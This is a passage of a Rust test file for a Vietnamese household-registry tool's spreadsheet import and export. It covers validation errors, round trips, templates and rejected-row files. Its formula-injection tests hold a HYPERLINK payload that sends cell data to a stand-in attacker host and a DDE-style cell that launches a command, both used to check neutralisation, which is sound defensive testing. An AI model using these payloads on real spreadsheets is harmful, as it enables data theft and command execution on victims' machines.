//! Reading, validating and writing the registry's files, through the public API only.

// Tests state their expectations with unwrap and panic, helpers included (clippy.toml allows it
// only inside #[test] functions).
#![allow(clippy::unwrap_used, clippy::panic)]

mod fuzz;
mod limits;
mod surveys;

/// Counts what each test thread holds (the fuzzing harness bounds what one read may hold) and
/// refuses any single request over 1 GiB.
#[global_allocator]
static ALLOC: ansinh_testkit::fuzz::CountingAlloc = ansinh_testkit::fuzz::CountingAlloc;

use std::io::Cursor;

use ansinh_core::registry::person::validate_person;
use ansinh_core::registry::{HouseholdExport, PersonExport, PersonRow};
use ansinh_core::{PartialDate, PersonDraft, Relation, RowError};
use ansinh_files::{
    FileError, Format, Layout, Limits, Table, TableRow, parse_households, parse_persons,
    read_table, rejected_rows, write_households, write_persons, write_rejected, write_template,
};
use calamine::Reader;
use chrono::NaiveDate;
use rust_xlsxwriter::{ExcelDateTime, Format as CellFormat, Workbook};

const PERSON_HEADERS: [&str; 11] = [
    "STT",
    "Số định danh",
    "Họ và tên",
    "Giới tính",
    "Ngày sinh",
    "Dân tộc",
    "Mã xã/phường",
    "Số điện thoại",
    "Ngày mất",
    "Mã hộ",
    "Quan hệ với chủ hộ",
];

fn today() -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 11, 26).unwrap()
}

/// A cell of a test spreadsheet.
#[derive(Clone)]
enum V {
    S(&'static str),
    N(f64),
    /// A real Excel date cell (serial number with a date format).
    D(u16, u8, u8),
    Blank,
}
use V::{Blank, D, N, S};

/// Builds an XLSX file in memory; `None` rows are left blank.
fn xlsx(rows: &[Option<Vec<V>>]) -> Vec<u8> {
    let mut book = Workbook::new();
    let ws = book.add_worksheet();
    let date = CellFormat::new().set_num_format("dd/mm/yyyy");
    for (r, row) in rows.iter().enumerate() {
        let Some(row) = row else { continue };
        let r = u32::try_from(r).unwrap();
        for (c, v) in row.iter().enumerate() {
            let c = u16::try_from(c).unwrap();
            match v {
                S(s) => {
                    ws.write_string(r, c, *s).unwrap();
                }
                N(n) => {
                    ws.write_number(r, c, *n).unwrap();
                }
                D(y, m, d) => {
                    let dt = ExcelDateTime::from_ymd(*y, *m, *d).unwrap();
                    ws.write_datetime_with_format(r, c, &dt, &date).unwrap();
                }
                Blank => {}
            }
        }
    }
    book.save_to_buffer().unwrap()
}

fn header_row(hs: &[&'static str]) -> Option<Vec<V>> {
    Some(hs.iter().map(|h| S(h)).collect())
}

fn csv_bytes(lines: &[&str]) -> Vec<u8> {
    lines.join("\r\n").into_bytes()
}

fn read(bytes: &[u8], format: Format) -> Result<Table, FileError> {
    read_table(bytes, format, &Limits::default())
}

fn persons(bytes: &[u8], format: Format) -> (Vec<PersonRow>, Vec<RowError>) {
    parse_persons(&read(bytes, format).unwrap(), today()).unwrap()
}

fn good_row(stt: &'static str) -> String {
    format!("{stt},046185000123,Nguyễn Thị Ái Vân,Nữ,12/03/1985,Kinh,19900,0905123456,,HO-1,Chủ hộ")
}

fn summary(errors: &[RowError]) -> Vec<(usize, &str, &str)> {
    errors
        .iter()
        .map(|e| (e.line, e.column.as_str(), e.code))
        .collect()
}

// ---- broken and wrong files ------------------------------------------------------------

#[test]
fn broken_xlsx_is_refused_without_panic() {
    let mut bytes = xlsx(&[header_row(&["Họ và tên"])]);
    bytes.truncate(bytes.len() / 2);
    let e = read(&bytes, Format::Xlsx).unwrap_err();
    assert_eq!(e.code(), "file.not_xlsx", "{e}");

    let e = read(b"PK\x03\x04 definitely not a zip", Format::Xlsx).unwrap_err();
    assert_eq!(e.code(), "file.not_xlsx");
    let e = read(b"", Format::Xlsx).unwrap_err();
    assert_eq!(e.code(), "file.not_xlsx");
}

#[test]
fn renamed_text_file_is_named_as_such() {
    let e = read("Họ và tên,Giới tính\nAn,Nam\n".as_bytes(), Format::Xlsx).unwrap_err();
    assert_eq!(e.code(), "file.not_xlsx");
    assert!(e.to_string().contains("đổi tên"), "{e}");
}

#[test]
fn renamed_xls_is_told_to_be_saved_as_xlsx() {
    let mut ole = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
    ole.resize(4096, 0);
    let e = read(&ole, Format::Xlsx).unwrap_err();
    assert_eq!(e.code(), "file.not_xlsx");
    assert!(e.to_string().contains(".xls"), "{e}");
}

#[test]
fn unsupported_extension_is_refused() {
    let e = Format::from_path(std::path::Path::new("danh-sach.xls")).unwrap_err();
    assert_eq!(e.code(), "file.format");
    assert!(e.to_string().contains(".xls"));
    assert_eq!(
        Format::from_path(std::path::Path::new("DS.CSV")).unwrap(),
        Format::Csv
    );
}

#[test]
fn empty_files_are_refused() {
    assert_eq!(read(b"", Format::Csv).unwrap_err().code(), "file.empty");
    assert_eq!(
        read(b"\n\n ,, \n", Format::Csv).unwrap_err().code(),
        "file.empty"
    );
    let header_only = csv_bytes(&[&PERSON_HEADERS.join(",")]);
    assert_eq!(
        read(&header_only, Format::Csv).unwrap_err().code(),
        "file.empty"
    );
    let blank_book = xlsx(&[]);
    assert_eq!(
        read(&blank_book, Format::Xlsx).unwrap_err().code(),
        "file.empty"
    );
}

#[test]
fn oversized_input_is_refused_before_parsing() {
    let bytes = csv_bytes(&["Họ và tên", "An"]);
    let limits = Limits {
        max_bytes: 5,
        max_rows: 10,
        ..Limits::default()
    };
    let e = read_table(&bytes, Format::Csv, &limits).unwrap_err();
    assert_eq!(e.code(), "file.too_large");
    // Not even a broken XLSX gets parsed when it is too large.
    let e = read_table(b"garbage garbage", Format::Xlsx, &limits).unwrap_err();
    assert_eq!(e.code(), "file.too_large");
}

#[test]
fn too_many_rows_are_refused_in_both_formats() {
    let limits = Limits {
        max_bytes: 1 << 20,
        max_rows: 2,
        ..Limits::default()
    };
    let header = PERSON_HEADERS.join(",");
    let (r1, r2, r3) = (good_row("1"), good_row("2"), good_row("3"));
    let two = csv_bytes(&[&header, &r1, "", &r2]);
    assert_eq!(
        read_table(&two, Format::Csv, &limits).unwrap().rows.len(),
        2
    );
    let three = csv_bytes(&[&header, &r1, &r2, &r3]);
    let e = read_table(&three, Format::Csv, &limits).unwrap_err();
    assert_eq!(e.code(), "file.too_many_rows");

    let row = || Some(vec![S("An")]);
    let book = xlsx(&[header_row(&["Họ và tên"]), row(), row(), row()]);
    let e = read_table(&book, Format::Xlsx, &limits).unwrap_err();
    assert_eq!(e.code(), "file.too_many_rows");
}

#[test]
fn non_utf8_csv_asks_for_utf8() {
    // "Họ" in Windows-1258-ish bytes: not valid UTF-8.
    let bytes = b"H\xf5 v\xe0 t\xean\nAn\n";
    let e = read(bytes, Format::Csv).unwrap_err();
    assert_eq!(e.code(), "file.encoding");
    assert!(e.to_string().contains("UTF-8"));
    // UTF-16 as saved by Excel's "Unicode Text" is refused the same way.
    let e = read(b"\xff\xfeH\x00o\x00\n\x00", Format::Csv).unwrap_err();
    assert_eq!(e.code(), "file.encoding");
}

// ---- headers -----------------------------------------------------------------------------

#[test]
fn missing_required_column_is_named() {
    let bytes = csv_bytes(&["Họ và tên,Giới tính,Mã xã/phường", "An,Nam,19900"]);
    let e = parse_persons(&read(&bytes, Format::Csv).unwrap(), today()).unwrap_err();
    assert_eq!(e.code(), "file.header_missing");
    assert_eq!(e, FileError::HeaderMissing(vec!["Ngày sinh"]));
    assert!(e.to_string().contains("Ngày sinh"));
}

#[test]
fn unknown_columns_are_listed() {
    let bytes = csv_bytes(&[
        "Họ và tên,Giới tính,Ngày sinh,Mã xã/phường,Ghi chú,Nghề nghiệp",
        "An,Nam,1950,19900,x,y",
    ]);
    let e = parse_persons(&read(&bytes, Format::Csv).unwrap(), today()).unwrap_err();
    assert_eq!(e.code(), "file.header_unknown");
    let text = e.to_string();
    assert!(
        text.contains("Ghi chú") && text.contains("Nghề nghiệp"),
        "{text}"
    );
}

#[test]
fn a_households_file_given_as_persons_is_called_the_wrong_file() {
    let bytes = write_template(Layout::Households, Format::Csv).unwrap();
    let e = parse_persons(&read(&bytes, Format::Csv).unwrap(), today()).unwrap_err();
    assert_eq!(e.code(), "file.header_unknown");
    assert!(e.to_string().contains("Địa chỉ"), "{e}");
    assert!(e.to_string().contains("nhầm"), "{e}");
}

#[test]
fn duplicate_header_is_refused() {
    let bytes = csv_bytes(&[
        "Họ và tên,Giới tính,Ngày sinh,Mã xã/phường,HO VA TEN",
        "An,Nam,1950,19900,An",
    ]);
    let e = parse_persons(&read(&bytes, Format::Csv).unwrap(), today()).unwrap_err();
    assert_eq!(e.code(), "file.header_duplicate");
}

#[test]
fn headers_ignore_case_diacritics_spaces_and_order() {
    let bytes = csv_bytes(&[
        "  MA XA / PHUONG ,ngay sinh,Gioi  tinh,HỌ VÀ TÊN,so dinh danh",
        "19900,12/03/1985,nữ,nguyễn thị ái vân,046185000123",
    ]);
    let (rows, errors) = persons(&bytes, Format::Csv);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(rows[0].person.full_name, "Nguyễn Thị Ái Vân");
    assert_eq!(rows[0].person.area_code, "19900");
    assert_eq!(rows[0].line, 2);
}

// ---- rows --------------------------------------------------------------------------------

#[test]
fn bad_rows_are_reported_with_row_numbers_and_columns() {
    // Rows 1 and 2 are a title-less header and a good row; row 3 is blank and skipped but
    // still counted, as Excel shows it.
    let book = xlsx(&[
        header_row(&PERSON_HEADERS),
        Some(vec![
            N(1.0),
            S("046185000123"),
            S("Nguyễn Thị Ái Vân"),
            S("Nữ"),
            S("12/03/1985"),
            S("Kinh"),
            N(19900.0),
            S("0905123456"),
            Blank,
            S("HO-1"),
            S("Chủ hộ"),
        ]),
        None,
        Some(vec![
            N(2.0),
            S("046185000124"),
            S("Trần Văn B"),
            S("Nam"),
            S("31/02/1985"),
            Blank,
            N(19900.0),
        ]),
        Some(vec![
            N(3.0),
            S("12345"),
            S("Lê Thị 3"),
            S("X"),
            S("01/01/2030"),
            S("Elf"),
            S("abc"),
            S("12"),
            S("02/02/2031"),
        ]),
        Some(vec![
            N(4.0),
            S("003185000123"),
            S("Hồ Văn C"),
            S("Nam"),
            S("1985"),
            Blank,
            S("19900"),
            Blank,
            Blank,
            S("HO-2"),
        ]),
        Some(vec![
            N(5.0),
            Blank,
            S("Hồ Văn D"),
            S("Nam"),
            S("1990"),
            Blank,
            S("19900"),
            Blank,
            Blank,
            Blank,
            S("hàng xóm"),
        ]),
    ]);
    let (rows, errors) = persons(&book, Format::Xlsx);
    assert_eq!(rows.len(), 1);
    assert_eq!(rows[0].line, 2);
    assert_eq!(
        summary(&errors),
        vec![
            (4, "Ngày sinh", "date.impossible"),
            (5, "Số định danh", "pid.length"),
            (5, "Họ và tên", "name.char"),
            (5, "Giới tính", "sex.unknown"),
            (5, "Ngày sinh", "date.future"),
            (5, "Dân tộc", "ethnicity.unknown"),
            (5, "Mã xã/phường", "area.format"),
            (5, "Số điện thoại", "phone.format"),
            (5, "Ngày mất", "date.future"),
            (6, "Số định danh", "pid.province"),
            (6, "Quan hệ với chủ hộ", "relation.missing"),
            (7, "Mã hộ", "household.code_missing"),
        ]
    );
    assert_eq!(
        errors[0].to_string(),
        "dòng 4, cột Ngày sinh: ngày '31/02/1985' không tồn tại"
    );
}

#[test]
fn id_must_agree_with_sex_and_birth_year() {
    let bytes = csv_bytes(&[
        &PERSON_HEADERS.join(","),
        "1,046185000123,Nguyễn Văn An,Nam,12/03/1985,,19900,,,,",
        "2,046185000123,Nguyễn Thị An,Nữ,12/03/1986,,19900,,,,",
        "3,04618500012A,Nguyễn Thị An,Nữ,12/03/1985,,19900,,,,",
    ]);
    let (rows, errors) = persons(&bytes, Format::Csv);
    assert!(rows.is_empty());
    let codes: Vec<_> = summary(&errors)
        .into_iter()
        .map(|(l, _, c)| (l, c))
        .collect();
    assert_eq!(
        codes,
        vec![
            (2, "pid.century_sex"),
            (3, "pid.year"),
            (3, "pid.duplicate_in_file"),
            (4, "pid.digits")
        ]
    );
}

#[test]
fn within_file_duplicate_id_points_at_the_first_row() {
    let header = PERSON_HEADERS.join(",");
    let other = "2,046090000001,Lê Văn Bình,Nam,1990,,19900,,,,";
    let again = "3,046185000123,Nguyễn Thị Ái Vân,Nữ,1985,,19900,,,,";
    let bytes = csv_bytes(&[&header, &good_row("1"), other, again, again]);
    let (rows, errors) = persons(&bytes, Format::Csv);
    assert_eq!(rows.iter().map(|r| r.line).collect::<Vec<_>>(), vec![2, 3]);
    assert_eq!(errors.len(), 2);
    for (e, line) in errors.iter().zip([4, 5]) {
        assert_eq!(e.line, line);
        assert_eq!(e.column, "Số định danh");
        assert_eq!(e.code, "pid.duplicate_in_file");
        assert_eq!(e.message, "trùng số định danh với dòng 2");
    }
}

#[test]
fn household_membership_rules() {
    let header = PERSON_HEADERS.join(",");
    let bytes = csv_bytes(&[
        &header,
        "1,,Lê Văn A,Nam,1950,,19900,,,HO-1,Chủ hộ",
        "2,,Lê Thị B,Nữ,1952,,19900,,,HO-1,vợ",
        "3,,Lê Văn C,Nam,1980,,19900,,,HO-1,chu ho",
        "4,,Lê Văn D,Nam,1981,,19900,,,mã hộ 5,Con",
        "5,,Lê Văn E,Nam,1982,,19900,,,,",
    ]);
    let (rows, errors) = persons(&bytes, Format::Csv);
    assert_eq!(
        summary(&errors),
        vec![
            (4, "Quan hệ với chủ hộ", "household.second_head"),
            (5, "Mã hộ", "household.code"),
        ]
    );
    assert!(errors[0].message.contains("dòng 2"));
    let kept: Vec<_> = rows
        .iter()
        .map(|r| (r.line, r.household_code.as_deref(), r.relation))
        .collect();
    assert_eq!(
        kept,
        vec![
            (2, Some("HO-1"), Some(Relation::Head)),
            (3, Some("HO-1"), Some(Relation::Spouse)),
            (6, None, None),
        ]
    );
    assert!(rows[2].person.personal_id.is_none());
}

#[test]
fn eleven_digit_numeric_id_gets_its_zero_back_in_xlsx_only() {
    let book = xlsx(&[
        header_row(&[
            "Số định danh",
            "Họ và tên",
            "Giới tính",
            "Ngày sinh",
            "Mã xã/phường",
            "Số điện thoại",
        ]),
        Some(vec![
            N(46185000123.0),
            S("Nguyễn Thị Ái Vân"),
            S("Nữ"),
            D(1985, 3, 12),
            N(19900.0),
            N(905123456.0),
        ]),
        Some(vec![
            N(46090000001.0),
            S("Lê Văn Bình"),
            S("Nam"),
            N(1990.0),
            N(19900.0),
        ]),
    ]);
    let table = read(&book, Format::Xlsx).unwrap();
    assert_eq!(table.rows[0].cells[0], "046185000123");
    assert_eq!(table.rows[0].cells[3], "12/03/1985");
    assert_eq!(table.rows[0].cells[4], "19900");
    // The phone column is not an ID column: its zero stays lost and the row is refused.
    assert_eq!(table.rows[0].cells[5], "905123456");
    let (rows, errors) = parse_persons(&table, today()).unwrap();
    assert_eq!(summary(&errors), vec![(2, "Số điện thoại", "phone.format")]);
    assert_eq!(rows.len(), 1);
    assert_eq!(
        rows[0].person.personal_id.as_ref().unwrap().as_str(),
        "046090000001"
    );
    assert_eq!(rows[0].person.birth.to_string(), "1990");

    // In a CSV the cell is text: no repair, but the message says what probably happened.
    let csv = csv_bytes(&[
        "Số định danh,Họ và tên,Giới tính,Ngày sinh,Mã xã/phường",
        "46185000123,Nguyễn Thị Ái Vân,Nữ,12/03/1985,19900",
    ]);
    let (_, errors) = persons(&csv, Format::Csv);
    assert_eq!(errors[0].code, "pid.length");
    assert!(errors[0].message.contains("số 0"), "{}", errors[0].message);
}

#[test]
fn excel_date_cells_become_day_month_year() {
    let book = xlsx(&[
        header_row(&[
            "Họ và tên",
            "Giới tính",
            "Ngày sinh",
            "Mã xã/phường",
            "Ngày mất",
        ]),
        Some(vec![
            S("Lê Văn An"),
            S("Nam"),
            D(1944, 7, 15),
            S("19900"),
            D(2024, 2, 29),
        ]),
    ]);
    let (rows, errors) = persons(&book, Format::Xlsx);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(rows[0].person.birth.to_string(), "15/07/1944");
    assert_eq!(
        rows[0].person.death_date,
        NaiveDate::from_ymd_opt(2024, 2, 29)
    );
}

// ---- CSV dialects ------------------------------------------------------------------------

#[test]
fn csv_with_bom_and_semicolons_is_read() {
    let text =
        "\u{feff}Họ và tên;Giới tính;Ngày sinh;Mã xã/phường\r\nLê Văn An;Nam;05/03/1950;19900\r\n";
    let (rows, errors) = persons(text.as_bytes(), Format::Csv);
    assert!(errors.is_empty(), "{errors:?}");
    assert_eq!(rows[0].person.full_name, "Lê Văn An");

    // A comma in the header means commas separate fields, even if a value has ';'.
    let text = "Họ và tên,Giới tính,Ngày sinh,Mã xã/phường\nLê Văn An,Nam,1950,19900\n";
    let table = read(text.as_bytes(), Format::Csv).unwrap();
    assert_eq!(table.headers[0], "Họ và tên");
}

#[test]
fn csv_row_numbers_count_blank_lines_but_not_breaks_inside_cells() {
    let bytes = csv_bytes(&[
        "Mã hộ,Mã xã/phường,Địa chỉ",
        "HO-1,19900,\"12 Lê Lợi\ntổ 3\"",
        "",
        "HO-2,19900,",
    ]);
    let (rows, errors) = parse_households(&read(&bytes, Format::Csv).unwrap()).unwrap();
    assert_eq!(rows[0].address, "12 Lê Lợi tổ 3");
    assert_eq!(summary(&errors), vec![(4, "Địa chỉ", "address.empty")]);
}

// ---- households --------------------------------------------------------------------------

#[test]
fn household_rows_are_checked() {
    let bytes = csv_bytes(&[
        "STT,Mã hộ,Mã xã/phường,Địa chỉ,Số định danh chủ hộ",
        "1,HO-1,19900,12 Lê Lợi,046185000123",
        "2,HO-2,19900,  14   Lê Lợi ,",
        "3,HO-1,19900,16 Lê Lợi,",
        "4,HO 4,Thuận An,,12345",
    ]);
    let (rows, errors) = parse_households(&read(&bytes, Format::Csv).unwrap()).unwrap();
    assert_eq!(rows.len(), 2);
    assert_eq!(rows[1].address, "14 Lê Lợi");
    assert_eq!(
        rows[0].head_personal_id.as_ref().unwrap().as_str(),
        "046185000123"
    );
    assert_eq!(
        summary(&errors),
        vec![
            (4, "Mã hộ", "household.duplicate_in_file"),
            (5, "Mã hộ", "household.code"),
            (5, "Mã xã/phường", "area.format"),
            (5, "Địa chỉ", "address.empty"),
            (5, "Số định danh chủ hộ", "pid.length"),
        ]
    );
    assert_eq!(errors[0].message, "trùng mã hộ với dòng 2");
}

#[test]
fn households_round_trip() {
    let exports = vec![
        HouseholdExport {
            code: "HO-19900-0001".into(),
            area_code: "19900".into(),
            address: "12 Nguyễn Văn Tuyết, tổ 3".into(),
            head_personal_id: "046185000123".into(),
        },
        HouseholdExport {
            code: "HO-19900-0002".into(),
            area_code: "19900".into(),
            address: "Thôn An Hải".into(),
            head_personal_id: String::new(),
        },
    ];
    for format in [Format::Xlsx, Format::Csv] {
        let bytes = write_households(&exports, format).unwrap();
        let (rows, errors) = parse_households(&read(&bytes, format).unwrap()).unwrap();
        assert!(errors.is_empty(), "{errors:?}");
        let back: Vec<HouseholdExport> = rows
            .iter()
            .map(|r| HouseholdExport {
                code: r.code.clone(),
                area_code: r.area_code.clone(),
                address: r.address.clone(),
                head_personal_id: r
                    .head_personal_id
                    .as_ref()
                    .map(|id| id.to_string())
                    .unwrap_or_default(),
            })
            .collect();
        assert_eq!(back, exports, "{format:?}");
    }
}

// ---- round trips, templates, rejected rows -----------------------------------------------

fn sample_people() -> Vec<PersonExport> {
    let drafts = [
        (
            "046185000123",
            "Nguyễn Thị Ái Vân",
            "Nữ",
            "12/03/1985",
            "Kinh",
            "0905123456",
            "",
        ),
        ("", "Hồ Văn A-Rất", "Nam", "1942", "Tà Ôi", "", "01/02/2020"),
        ("046207000042", "Lê Minh Khôi", "Nam", "03/2007", "", "", ""),
    ];
    let households = [
        Some(("HO-19900-0001", Relation::Head)),
        None,
        Some(("HO-19900-0001", Relation::Child)),
    ];
    drafts
        .iter()
        .zip(households)
        .map(|((id, name, sex, birth, eth, phone, death), hh)| {
            let d = PersonDraft {
                personal_id: id.to_string(),
                full_name: name.to_string(),
                sex: sex.to_string(),
                birth_date: birth.to_string(),
                ethnicity: eth.to_string(),
                area_code: "19900".into(),
                phone: phone.to_string(),
                death_date: death.to_string(),
            };
            PersonExport::from_valid(&validate_person(&d, today()).unwrap(), hh)
        })
        .collect()
}

#[test]
fn persons_round_trip_through_xlsx_and_csv() {
    let exports = sample_people();
    for format in [Format::Xlsx, Format::Csv] {
        let bytes = write_persons(&exports, format).unwrap();
        let (rows, errors) = persons(&bytes, format);
        assert!(errors.is_empty(), "{format:?}: {errors:?}");
        let back: Vec<PersonExport> = rows
            .iter()
            .map(|r| {
                let hh = r.household_code.as_deref().zip(r.relation);
                PersonExport::from_valid(&r.person, hh)
            })
            .collect();
        assert_eq!(back, exports, "{format:?}");
        assert_eq!(
            rows.iter().map(|r| r.line).collect::<Vec<_>>(),
            vec![2, 3, 4]
        );
        // Partial birth dates keep their precision through the file.
        assert_eq!(rows[2].person.birth, PartialDate::parse("03/2007").unwrap());
    }
}

#[test]
fn exported_file_on_disk_is_recognised_by_its_name() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("nhan-khau.xlsx");
    std::fs::write(
        &path,
        write_persons(&sample_people(), Format::Xlsx).unwrap(),
    )
    .unwrap();
    let format = Format::from_path(&path).unwrap();
    let bytes = std::fs::read(&path).unwrap();
    let (rows, errors) = persons(&bytes, format);
    assert_eq!((rows.len(), errors.len()), (3, 0));
}

#[test]
fn csv_export_has_bom_and_commas() {
    let bytes = write_persons(&sample_people(), Format::Csv).unwrap();
    assert!(bytes.starts_with(b"\xEF\xBB\xBF"));
    let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
    assert!(text.starts_with(&PERSON_HEADERS.join(",")), "{text}");
}

#[test]
fn xlsx_export_keeps_ids_as_text_and_headers_in_place() {
    let bytes = write_persons(&sample_people(), Format::Xlsx).unwrap();
    let mut book = calamine::Xlsx::new(Cursor::new(bytes)).unwrap();
    assert_eq!(book.sheet_names(), vec!["Nhân khẩu"]);
    let range = book.worksheet_range_at(0).unwrap().unwrap();
    let header: Vec<String> = range
        .rows()
        .next()
        .unwrap()
        .iter()
        .map(|c| c.to_string())
        .collect();
    assert_eq!(header, PERSON_HEADERS);
    assert_eq!(
        range.get_value((1, 1)),
        Some(&calamine::Data::String("046185000123".into()))
    );
}

#[test]
fn templates_parse_with_their_example_row_valid() {
    for format in [Format::Xlsx, Format::Csv] {
        let bytes = write_template(Layout::Persons, format).unwrap();
        let (rows, errors) = persons(&bytes, format);
        assert!(errors.is_empty(), "{errors:?}");
        assert_eq!(rows.len(), 1);
        assert_eq!(rows[0].relation, Some(Relation::Head));

        let bytes = write_template(Layout::Households, format).unwrap();
        let (rows, errors) = parse_households(&read(&bytes, format).unwrap()).unwrap();
        assert!(errors.is_empty(), "{errors:?}");
        assert_eq!(rows.len(), 1);
    }
}

#[test]
fn xlsx_template_has_a_guide_sheet() {
    let bytes = write_template(Layout::Persons, Format::Xlsx).unwrap();
    let mut book = calamine::Xlsx::new(Cursor::new(bytes)).unwrap();
    assert_eq!(book.sheet_names(), vec!["Nhân khẩu", "Hướng dẫn"]);
    let guide = book.worksheet_range("Hướng dẫn").unwrap();
    let text: String = guide
        .rows()
        .flat_map(|r| r.iter().map(|c| c.to_string()))
        .collect::<Vec<_>>()
        .join("\n");
    for needle in [
        "dd/mm/yyyy",
        "mm/yyyy",
        "yyyy",
        "Ngày sinh",
        "Chủ hộ",
        "Tà-ôi",
        "Bắt buộc",
    ] {
        assert!(text.contains(needle), "guide lacks {needle}");
    }
}

#[test]
fn rejected_rows_come_back_with_their_reasons_and_can_be_fixed_and_reimported() {
    let header = PERSON_HEADERS.join(",");
    let bad = "2,,Lê Văn B,Nam,31/02/1985,,19900,,,,";
    let bytes = csv_bytes(&[&header, &good_row("1"), bad]);
    let table = read(&bytes, Format::Csv).unwrap();
    let (_, errors) = parse_persons(&table, today()).unwrap();
    let rejected = rejected_rows(&table, &errors);
    assert_eq!(rejected.len(), 1);
    assert_eq!(rejected[0].0.line, 3);

    for format in [Format::Xlsx, Format::Csv] {
        let out = write_rejected(&table.headers, &rejected, format).unwrap();
        let back = read(&out, format).unwrap();
        assert_eq!(back.headers.last().unwrap(), "Lỗi");
        assert_eq!(&back.headers[..11], &PERSON_HEADERS);
        let row = &back.rows[0];
        assert_eq!(row.cells[2], "Lê Văn B");
        assert_eq!(row.cells[4], "31/02/1985");
        assert_eq!(row.cells[11], "Ngày sinh: ngày '31/02/1985' không tồn tại");

        // The officer fixes the date in the rejected file and imports it again as it is.
        let mut fixed = back.clone();
        fixed.rows[0].cells[4] = "28/02/1985".into();
        let (rows, errors) = parse_persons(&fixed, today()).unwrap();
        assert!(errors.is_empty(), "{errors:?}");
        assert_eq!(rows.len(), 1);

        // Rejected again, the file still has one "Lỗi" column.
        let (_, errors) = parse_persons(&back, today()).unwrap();
        let again = write_rejected(&back.headers, &rejected_rows(&back, &errors), format).unwrap();
        let again = read(&again, format).unwrap();
        assert_eq!(again.headers.iter().filter(|h| *h == "Lỗi").count(), 1);
    }
}

// ---- formula injection ---------------------------------------------------------------------

/// What the probe stored as an address through the web form.
const PAYLOAD: &str = r#"=HYPERLINK("http://attacker.example/?d="&A1,"Xem")"#;

/// The first data row of a CSV file ansinh wrote, field by field, as a spreadsheet sees it.
fn csv_first_row(bytes: &[u8]) -> Vec<String> {
    let mut reader = csv::Reader::from_reader(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap());
    let record = reader.records().next().unwrap().unwrap();
    record.iter().map(str::to_string).collect()
}

#[test]
fn formula_in_an_address_is_neutralised_in_csv_and_text_in_xlsx_and_reads_back() {
    let households = vec![HouseholdExport {
        code: "HO-19900-0001".into(),
        area_code: "19900".into(),
        address: PAYLOAD.into(),
        head_personal_id: String::new(),
    }];
    // CSV: the cell starts with an apostrophe, so Excel shows it as text instead of running it.
    let csv = write_households(&households, Format::Csv).unwrap();
    let cells = csv_first_row(&csv);
    assert_eq!(cells[3], format!("'{PAYLOAD}"));
    assert_eq!(cells[0], "1", "the number column keeps its number");

    // XLSX: a string cell, and the sheet has no formula at all.
    let xlsx = write_households(&households, Format::Xlsx).unwrap();
    let mut book = calamine::Xlsx::new(Cursor::new(xlsx.clone())).unwrap();
    let range = book.worksheet_range("Hộ gia đình").unwrap();
    assert_eq!(
        range.get_value((1, 3)),
        Some(&calamine::Data::String(PAYLOAD.to_string()))
    );
    let formulas = book.worksheet_formula("Hộ gia đình").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()));

    // Imported again, both give back the address as it was stored.
    for (bytes, format) in [(csv, Format::Csv), (xlsx, Format::Xlsx)] {
        let (rows, errors) = parse_households(&read(&bytes, format).unwrap()).unwrap();
        assert!(errors.is_empty(), "{format:?}: {errors:?}");
        assert_eq!(rows[0].address, PAYLOAD, "{format:?}");
    }
}

#[test]
fn rejected_rows_csv_neutralises_what_the_upload_held_and_gives_it_back() {
    let header = PERSON_HEADERS.join(",");
    let bad = "-1+2,,@SUM(1+1)*cmd|' /C calc'!A0,Nam,1985,,19900,+84 905 123 456,,,";
    let table = read(&csv_bytes(&[&header, bad]), Format::Csv).unwrap();
    let (_, errors) = parse_persons(&table, today()).unwrap();
    let out = write_rejected(&table.headers, &rejected_rows(&table, &errors), Format::Csv).unwrap();
    let cells = csv_first_row(&out);
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "{cell:?} in {cells:?}"
        );
    }
    assert_eq!(cells[0], "'-1+2");
    assert_eq!(cells[2], "'@SUM(1+1)*cmd|' /C calc'!A0");
    assert_eq!(cells[7], "'+84 905 123 456");
    // Read back, the cells are what was uploaded, so the officer can fix the file and retry.
    assert_eq!(
        read(&out, Format::Csv).unwrap().rows[0].cells[..11],
        table.rows[0].cells[..]
    );
}

// ---- Excel's cell limit ----------------------------------------------------------------------

#[test]
fn rejected_rows_longer_than_an_xlsx_cell_are_cut_with_a_marker_not_a_failure() {
    let name = "Ả".repeat(40_000);
    let table = Table {
        headers: PERSON_HEADERS.iter().map(|h| h.to_string()).collect(),
        rows: vec![TableRow {
            line: 2,
            cells: PERSON_HEADERS
                .iter()
                .enumerate()
                .map(|(i, _)| if i == 2 { name.clone() } else { String::new() })
                .collect(),
        }],
    };
    // Every reason of a row joined in the "Lỗi" column can pass the limit too.
    let errors: Vec<RowError> = (0..400)
        .map(|i| RowError {
            line: 2,
            column: PERSON_HEADERS[i % 11].to_string(),
            code: "name.chars",
            message: "x".repeat(100),
        })
        .collect();
    let rejected = rejected_rows(&table, &errors);
    let xlsx = write_rejected(&table.headers, &rejected, Format::Xlsx).unwrap();
    let back = read(&xlsx, Format::Xlsx).unwrap();
    for cell in [&back.rows[0].cells[2], &back.rows[0].cells[11]] {
        assert!(cell.ends_with("…(cắt bớt)"), "{}", &cell[cell.len() - 40..]);
        assert_eq!(cell.encode_utf16().count(), 32_767);
    }
    assert!(back.rows[0].cells[2].starts_with("ẢẢẢ"));
    // CSV has no such limit: the cell is written whole; the reasons, ansinh's own text, are cut
    // as in XLSX.
    let csv = write_rejected(&table.headers, &rejected, Format::Csv).unwrap();
    let cells = csv_first_row(&csv);
    assert_eq!(cells[2], name);
    assert!(cells[11].ends_with("…(cắt bớt)"));
    assert_eq!(cells[11].encode_utf16().count(), 32_767);
}

#[test]
fn rejected_rows_of_a_full_cell_read_back_in_csv_too() {
    // The reason quotes the 32,767-character code it refuses, so the "Lỗi" cell was longer than
    // the reader takes: the rejected file could not be imported again (a fuzzing find).
    let code = "H".repeat(32_767);
    let bytes = csv_bytes(&["Mã hộ,Mã xã/phường,Địa chỉ", &format!("{code},19900,Số 1")]);
    let table = read(&bytes, Format::Csv).unwrap();
    let (_, errors) = parse_households(&table).unwrap();
    assert_eq!(errors[0].code, "household.code");
    let out = write_rejected(&table.headers, &rejected_rows(&table, &errors), Format::Csv).unwrap();
    let back = read(&out, Format::Csv).unwrap();
